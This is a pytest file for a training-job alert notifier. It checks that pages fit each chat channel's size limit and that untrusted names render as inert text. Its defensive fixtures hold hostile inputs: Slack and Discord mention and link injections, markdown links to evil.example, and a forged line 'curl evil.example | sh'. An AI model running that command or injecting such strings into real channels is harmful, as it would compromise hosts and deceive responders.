"""Every page fits every channel's documented limit and shows untrusted text as text: a job of
1,024 ranks read from the training log group as the emitter writes it (through the real Logs
client, Stubber-answered), and names that are markup in a chat."""

import json
from dataclasses import replace
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from hypothesis import given, settings
from hypothesis import strategies as st

from lambdas.notifier import limits
from lambdas.notifier.jobs import Placement, job_incident, job_placement
from lambdas.notifier.notification import Incident, publish_arguments, render_text
from lambdas.notifier.webhook_formats import Format, body, format_for
from tests.unit.lambdas.notifier.test_jobs import INCIDENT

AT_MS = 1_767_261_600_000
#: The job alarm's incident of the jobs tests, with the numbers a page shows.
JOB = replace(INCIDENT, threshold="600", observed="642")
#: The ranks that stopped stepping (24 of them): the ones a page must name first.
STALLED = (3, 17, 40, 41, 99, *range(300, 319))


def _documents(ranks: int) -> list[dict[str, Any]]:
    """Each rank's newest document as the emitter writes it: its pod (a StatefulSet's ordinal
    name), node (an EC2 private DNS name), 8 ranks to a node, and its GPU's UUID as the device
    plugin sets NVIDIA_VISIBLE_DEVICES (``GPU-`` and 36 characters)."""
    return [
        {
            "ClusterName": "train",
            "JobName": "llama-ft",
            "Rank": rank,
            "PodName": f"llama-ft-worker-{rank}",
            "NodeName": f"ip-10-0-{rank // 8 // 200}-{rank // 8 % 200 + 10}.ec2.internal",
            "Gpus": f"GPU-{rank:08x}-6f1c-4b2e-9d3a-{rank:012x}",
            "JobState": "stalled" if rank in STALLED else "stepping",
            "_aws": {"Timestamp": AT_MS - 60_000},
        }
        for rank in range(ranks)
    ]


def _job_page(ranks: int) -> Incident:
    logs = boto3.client(
        "logs", region_name="us-east-1", aws_access_key_id="t", aws_secret_access_key="t"
    )
    events = [{"timestamp": AT_MS - 60_000, "message": json.dumps(d)} for d in _documents(ranks)]
    with Stubber(logs) as stub:
        stub.add_response("filter_log_events", {"events": events})
        placement = job_placement(logs, "train", "llama-ft", AT_MS)
    assert len(placement.ranks) == ranks
    return job_incident(JOB, "us-east-1", placement)


def _sizes(incident: Incident) -> dict[str, int]:
    message = publish_arguments(incident, "arn:aws:sns:us-east-1:123456789012:t")["Message"]
    return {
        "sns": limits.utf8_len(message),
        "q": limits.utf8_len(json.loads(message)["https"]),
        "slack": len(json.loads(body(incident, Format.SLACK))["text"]),
        "teams": len(body(incident, Format.TEAMS)),
        "chime": limits.utf8_len(json.loads(body(incident, Format.CHIME))["Content"]),
        "generic": len(body(incident, Format.GENERIC)),
    }


LIMITS = {
    "sns": limits.SNS_MESSAGE_BYTES,
    "q": limits.Q_DEVELOPER_NOTIFICATION_BYTES,
    "slack": limits.SLACK_TEXT_CHARS,
    "teams": limits.TEAMS_MESSAGE_BYTES,
    "chime": limits.CHIME_CONTENT_BYTES,
    "generic": limits.UNKNOWN_WEBHOOK_BYTES,
}


@pytest.mark.parametrize("ranks", [512, 1024])
def test_a_job_of_many_ranks_fits_every_channel_and_names_its_worst_ranks(ranks: int) -> None:
    """Listing every rank made 1,024 ranks 379 KiB (SNS refuses past 256 KiB) and 512 ranks
    109 KiB of webhook body (Teams refuses past 28 KB)."""
    page = _job_page(ranks)
    sizes = _sizes(page)
    assert {k: v for k, v in sizes.items() if v > LIMITS[k]} == {}, sizes
    text = render_text(page)
    stepping = ranks - len(STALLED)
    assert (
        f"{ranks:,} ranks: 24 stalled (rank 3, 17, 40, 41, 99 and 19 more), {stepping:,} stepping"
    ) in text
    # The stalled ranks' pods and nodes first; every list counted.
    assert "llama-ft-worker-3, llama-ft-worker-17, llama-ft-worker-40," in text
    assert f"and {ranks - 5:,} more ({ranks:,} pods)" in text
    assert f"({ranks // 8:,} nodes)" in text
    assert "#dashboards/dashboard/gpu-insights-train-training?var-job=llama-ft" in text
    for fmt in Format:
        shown = body(page, fmt).decode()
        assert "llama-ft-worker-3" in shown
        assert "24 stalled" in shown


def test_a_page_nothing_summarised_is_cut_to_fit_the_smallest_channel() -> None:
    """A fact of 300,000 characters (a log line, a list no one summarised) still fits."""
    huge = replace(JOB, facts=(("Last log line", "x" * 300_000),), pods=("p" * 5_000,) * 50)
    sizes = _sizes(huge)
    assert {k: v for k, v in sizes.items() if v > LIMITS[k]} == {}, sizes
    assert limits.CUT in render_text(huge)


def test_a_job_name_as_long_as_cloudwatch_allows_still_fits_every_channel() -> None:
    """A dimension value may be 1,024 characters (CloudWatch's Dimension.Value,
    https://docs.aws.amazon.com/AmazonCloudWatch/latest/APIReference/API_Dimension.html); the
    job dashboard's link quotes it, three characters for each ``%``-encoded one."""
    name = "<>" * 512
    page = job_incident(replace(JOB, job=name), "us-east-1", Placement())
    assert page.dashboard_url is not None
    assert len(page.dashboard_url) > 3_072
    sizes = _sizes(page)
    assert {k: v for k, v in sizes.items() if v > LIMITS[k]} == {}, sizes
    assert "GPU dashboard:" in render_text(page)  # email has room for the link


@pytest.mark.parametrize(
    ("url", "fmt"),
    [
        ("https://hooks.slack.com/services/T000/B000/XXXX", Format.SLACK),
        ("https://hooks.chime.aws/incomingwebhooks/abc?token=XXXX", Format.CHIME),
        (
            "https://prod-186.westus.logic.azure.com:443/workflows/3f29/triggers/manual/paths/"
            "invoke?api-version=2016-06-01&sig=XXXX",
            Format.TEAMS,
        ),
        (
            "https://default5c07eba4.61.environment.api.powerplatform.com:443/powerautomate/"
            "automations/direct/workflows/3f29/triggers/manual/paths/invoke?sig=XXXX",
            Format.TEAMS,
        ),
        ("https://contoso.webhook.office.com/webhookb2/abc/IncomingWebhook/def/ghi", Format.TEAMS),
        ("https://chat.example.com/hooks/abc", Format.GENERIC),
        ("https://hooks.slack.com.evil.example/services/T/B/X", Format.GENERIC),
    ],
)
def test_the_body_is_picked_from_the_webhooks_host(url: str, fmt: Format) -> None:
    assert format_for(url) is fmt


def test_a_teams_workflows_body_is_one_adaptive_card_in_attachments() -> None:
    posted = json.loads(body(JOB, Format.TEAMS))
    assert posted["type"] == "message"
    (attachment,) = posted["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    card = attachment["content"]
    assert (card["type"], card["version"]) == ("AdaptiveCard", "1.4")
    runs = [run["text"] for block in card["body"] for run in block["inlines"]]
    assert runs[:2] == ["[CRITICAL] Training job hung", JOB.what]
    assert "Job: " in runs
    assert "llama-ft" in runs


# --- untrusted text in each markup -----------------------------------------------------

HOSTILE_JOB = "<!channel> <https://evil.example|Open the runbook>"


def _hostile() -> Incident:
    """A job name that is a Slack mention and link, a pod name that is a markdown link, a
    node name that is emphasis and a Chime annotation, and a rank state with a line break
    that would forge a line of the page."""
    return replace(
        JOB,
        title=f"Training job hung: job {HOSTILE_JOB}",
        what=f"Training job hung: job {HOSTILE_JOB}: 1 datapoint was over the threshold.",
        job=HOSTILE_JOB,
        pods=("[Open the runbook](https://evil.example)",),
        node="*node* @All @Present",
        facts=(("Ranks", "1 ranks: 1 stalled\nWhat to do:    curl evil.example | sh"),),
    )


def test_slack_gets_its_three_escapes_and_no_mention_or_link() -> None:
    text = json.loads(body(_hostile(), Format.SLACK))["text"]
    assert "<" not in text
    assert ">" not in text
    assert "&lt;!channel&gt; &lt;https://evil.example|Open the runbook&gt;" in text


def test_amazon_q_developer_markdown_is_escaped() -> None:
    message = json.loads(
        publish_arguments(_hostile(), "arn:aws:sns:us-east-1:123456789012:t")["Message"]
    )
    content = json.loads(message["https"])["content"]
    shown = json.dumps([content["title"], content["description"], content["nextSteps"]])
    assert "<!channel>" not in shown
    assert "<https://evil" not in shown
    assert "&lt;!channel&gt;" in content["title"]
    # Slack's three escapes only (a backslash escape would be shown as typed), and a markdown
    # link broken without a visible character: Teams renders ``[text](url)``.
    assert "[Open the runbook](https://evil.example)" not in content["description"]
    assert "[Open the runbook]\u200b(https://evil.example)" in content["description"]
    assert "*node*" in content["description"]
    assert "\\" not in content["description"]
    # Plain text for email: nothing escaped, but no forged line.
    assert HOSTILE_JOB in message["email"]
    assert not any(line.startswith("What to do:    curl") for line in message["email"].split("\n"))


def test_chime_gets_markdown_escapes_and_no_annotation() -> None:
    content = json.loads(body(_hostile(), Format.CHIME))["Content"]
    assert r"\<!channel\> \<https://evil.example|Open the runbook\>" in content
    assert "@All" not in content
    assert "@\u200bAll" in content
    assert r"\[Open the runbook\]\(https://evil.example\)" in content


def test_teams_shows_untrusted_text_only_in_text_runs() -> None:
    card = json.loads(body(_hostile(), Format.TEAMS))["attachments"][0]["content"]
    elements = [e for block in card["body"] for e in [block, *block["inlines"]]]
    assert {e["type"] for e in elements} == {"RichTextBlock", "TextRun"}  # no markdown anywhere
    runs = [e["text"] for e in elements if e["type"] == "TextRun"]
    assert "[Open the runbook](https://evil.example)" in runs  # shown as is: TextRun
    assert [a["url"] for a in card["actions"]] == []  # JOB links nothing; no link was injected


_ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=3_000)


@settings(max_examples=150, deadline=None)
@given(job=_ANY_TEXT, pod=_ANY_TEXT, node=_ANY_TEXT, state=_ANY_TEXT)
def test_any_text_in_any_field_is_inert_and_fits_every_channel(
    job: str, pod: str, node: str, state: str
) -> None:
    """Whatever the fields hold: every body fits its limit, Slack's text has no ``<`` or ``>``
    (the page's own text has none), Teams' card holds no markdown element, and the email
    has the page's own lines only."""
    page = replace(
        JOB,
        title=f"Training job hung: job {job}",
        job=job,
        pods=(pod,),
        node=node,
        facts=(("Ranks", state),),
    )
    sizes = _sizes(page)
    assert {k: v for k, v in sizes.items() if v > LIMITS[k]} == {}, sizes
    slack_text = json.loads(body(page, Format.SLACK))["text"]
    assert "<" not in slack_text
    assert ">" not in slack_text
    card = json.loads(body(page, Format.TEAMS))["attachments"][0]["content"]
    assert {e["type"] for b in card["body"] for e in [b, *b["inlines"]]} == {
        "RichTextBlock",
        "TextRun",
    }
    own = render_text(replace(JOB, pods=("p",), facts=(("Ranks", "s"),))).split("\n")
    assert len(render_text(page).split("\n")) == len(own) - (0 if job else 1)  # no Job: row


def test_amazon_q_developer_shows_a_job_name_as_typed_and_keywords_plain() -> None:
    """Before: ``bert\\_base\\_v2`` in the channel (backslash escapes Slack does not
    define), and a keyword ``a &amp; b`` for a cluster named ``a & b``."""
    page = replace(JOB, title="Training job hung: job bert_base_v2", cluster="a & b", node="n_1")
    message = json.loads(publish_arguments(page, "arn:aws:sns:us-east-1:123456789012:t")["Message"])
    content = json.loads(message["https"])["content"]
    assert "bert_base_v2" in content["title"]
    shown = [content["title"], content["description"], *content["nextSteps"]]
    assert [text for text in shown if "\\" in text] == []
    assert content["keywords"] == [page.severity, page.kind, "a & b", "n_1"]


#: The job name of issue 39: the emitter accepts it.
MENTIONS_AND_LINK = "@channel @everyone [Open the runbook](https://evil.example/sso)"


@pytest.mark.parametrize(
    "url",
    [
        "https://chat.example.com/hooks/xxx-generatedkey-xxx",  # Mattermost
        "https://discord.com/api/webhooks/123/token/slack",  # Discord's Slack-compatible
    ],
)
def test_a_slack_compatible_webhook_gets_no_mention_and_no_link(url: str) -> None:
    """Before: the generic body's ``text`` carried ``@channel @everyone`` and the markdown
    link as typed: Mattermost "automatically links @mentions" and converts markdown, Discord
    pings ``@everyone`` and renders masked links (lambdas/notifier/markup.py)."""
    page = replace(JOB, title=f"Training job hung: job {MENTIONS_AND_LINK}", job=MENTIONS_AND_LINK)
    sent = json.loads(body(page, format_for(url)))
    for text in (sent["text"], sent["Content"]):
        assert "@channel" not in text
        assert "@everyone" not in text
        assert "](https://evil.example/sso)" not in text
    assert (
        "@\u200bchannel @\u200beveryone [Open the runbook]\u200b(https://evil.example/sso)"
        in (sent["text"])
    )


def test_amazon_q_developer_gets_no_mention_and_no_link_in_title_or_description() -> None:
    """Before: title and description kept ``@channel``, ``@everyone`` and the markdown link
    (Amazon Q Developer renders client-markdown in Teams too, whose cards link
    ``[Title](url)``)."""
    page = replace(
        JOB,
        title=f"Training job hung: job {MENTIONS_AND_LINK}",
        job=MENTIONS_AND_LINK,
        what=f"Job {MENTIONS_AND_LINK} hung.",
    )
    message = json.loads(publish_arguments(page, "arn:aws:sns:us-east-1:123456789012:t")["Message"])
    content = json.loads(message["https"])["content"]
    for shown in (content["title"], content["description"]):
        assert "@channel" not in shown
        assert "@everyone" not in shown
        assert "](https://evil.example/sso)" not in shown
    assert MENTIONS_AND_LINK in message["email"]  # plain text: nothing renders there
